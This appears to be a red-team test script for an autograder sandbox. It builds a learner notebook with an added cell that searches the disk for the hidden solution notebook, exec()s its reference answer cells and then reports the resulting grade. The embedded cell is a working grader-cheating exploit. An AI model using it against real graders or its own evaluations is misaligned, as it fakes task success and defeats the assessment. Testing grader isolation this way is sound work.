"""At the process isolation level (Gradescope's containers have no user namespaces), can the learner's
worker read the solution notebook / hidden suites from disk and exec the reference answers?

The learner notebook is the untouched one plus one cell that searches for solutions/<lesson>.ipynb and
exec()s its answer cells. Usage: python3 attacks/process_isolation_read_solution.py [LESSON] [ISOLATION]
"""
import sys, json, os
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from _nb import *

lesson = sys.argv[1] if len(sys.argv) > 1 else "prefill"
iso = sys.argv[2] if len(sys.argv) > 2 else "process"
src = f'''
import json as _j, glob as _g, os as _o
_found = []
for _pat in ["/autograder/source/solutions/{lesson}.ipynb", "/work/*/solutions/{lesson}.ipynb",
             "/work/wt/*/solutions/{lesson}.ipynb", "/tmp/*/source/solutions/{lesson}.ipynb", "/tmp/h5/*/source/solutions/{lesson}.ipynb"]:
    try:
        _found += _g.glob(_pat)
    except Exception as _e:
        pass
print("found", _found[:3])
for _p in _found:
    try:
        _nbj = _j.load(open(_p))
    except Exception as _e:
        print("cannot read", _p, _e)
        continue
    for _c in _nbj["cells"]:
        if _c["cell_type"] == "code" and "self-check" not in _c["metadata"].get("tags", []):
            exec("".join(_c["source"]), globals())
    break
'''
nb = append(load(lesson, "notebooks"), src)
path = write(nb, f"/tmp/h5/readsol/{lesson}.ipynb")
env = dict(ENV, GRADER_ISOLATION=iso)
p, dt = run(["grade", str(path), "--json"], env=env)
try:
    r = json.loads(p.stdout)
    print("score", r["score"], "/", r["max_score"], r["status"], "|", r["isolation"])
    print("errors", r["errors"][:3])
except Exception:
    print(p.stdout[-2000:], p.stderr[-2000:])
